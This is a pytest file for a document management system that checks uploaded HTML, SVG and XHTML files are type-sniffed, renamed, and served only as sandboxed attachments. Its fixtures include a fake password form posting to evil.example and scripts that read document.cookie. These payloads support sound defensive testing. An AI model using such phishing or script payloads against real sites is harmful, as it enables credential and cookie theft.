"""Issue 16, item 2: user content never runs in our origin."""
from __future__ import annotations

import io

import pytest

from dms.documents.uploads import safe_filename, sniff

PHISH = (b"<div><h1>Session expired</h1><form action='https://evil.example/'><input name=password></form>"
         b"<meta http-equiv='refresh' content='0;url=https://evil.example/'></div>")
SVG = (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script>"
       b"</svg>")
XHTML = (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><script>alert(1)</script>"
         b"</body></html>")
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


@pytest.mark.parametrize(("data", "name", "media_type", "kept_as"), [
    (b"<!doctype html><html><body>hi</body></html>", "report.pdf", "text/html", "report.html"),
    (PHISH, "report.pdf", "text/html", "report.html"),
    (SVG, "logo.png", "image/svg+xml", "logo.svg"),
    (XHTML, "page.txt", "application/xhtml+xml", "page.xhtml"),
    (b"plain words", "notes.pdf", "text/plain", "notes.txt"),
    (PNG, "photo.jpg", "image/png", "photo.png"),
])
def test_the_stored_media_type_is_the_sniffed_one_and_the_name_follows_it(data, name, media_type,  # noqa: ANN001
                                                                          kept_as):  # noqa: ANN001
    sniffed = sniff(data, name)
    assert sniffed == media_type
    assert safe_filename(name, sniffed) == kept_as


def _upload(client, world, data: bytes, name: str) -> tuple[dict, dict]:  # noqa: ANN001
    world.user("clerk", "Clerk")
    folder = world.folder("/Отчёты")
    headers = world.token(client, "clerk")
    r = client.post("/api/v1/documents", headers=headers, content_type="multipart/form-data",
                    data={"folder_id": str(folder.id), "type": "other", "title": "t", "file": (io.BytesIO(data), name)})
    assert r.status_code == 201, r.get_json()
    return r.get_json(), headers


@pytest.mark.parametrize(("data", "name"), [(PHISH, "report.pdf"), (SVG, "logo.svg"), (XHTML, "page.xhtml")])
def test_html_xhtml_and_svg_are_never_served_inline(client, world, data, name):  # noqa: ANN001
    doc, _headers = _upload(client, world, data, name)
    version = doc["versions"][0]
    assert version["media_type"] != "application/pdf" and not version["filename"].endswith(".pdf")
    world.login(client, "clerk")
    r = client.get(f"/documents/{doc['id']}/versions/1/download?inline=1")
    assert r.status_code == 200 and r.get_data() == data
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Content-Security-Policy"].startswith("sandbox")


def test_the_api_content_of_user_files_is_a_sandboxed_attachment(client, world):  # noqa: ANN001
    doc, headers = _upload(client, world, PHISH, "report.pdf")
    r = client.get(doc["versions"][0]["content_url"], headers=headers)
    assert r.get_data() == PHISH
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert "report.html" in r.headers["Content-Disposition"]
    assert r.headers["Content-Security-Policy"].startswith("sandbox")
    assert r.headers["X-Content-Type-Options"] == "nosniff"


def test_pdfs_and_images_are_still_shown_inline(client, world):  # noqa: ANN001
    from .pdfs import make_pdf
    doc, _headers = _upload(client, world, make_pdf("Приказ"), "order.pdf")
    world.login(client, "clerk")
    r = client.get(f"/documents/{doc['id']}/versions/1/download?inline=1")
    r.get_data()
    assert r.headers["Content-Disposition"].startswith("inline;")
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    r = client.get(f"/documents/{doc['id']}/versions/1/download")
    r.get_data()
    assert r.headers["Content-Disposition"].startswith("attachment;")
    png = world.document("clerk", "/Отчёты", PNG, filename="scan.png")
    r = client.get(f"/documents/{png.id}/versions/1/download?inline=1")
    assert r.get_data() == PNG
    assert r.headers["Content-Disposition"].startswith("inline;") and r.mimetype == "image/png"
    assert "script-src" not in r.headers["Content-Security-Policy"]
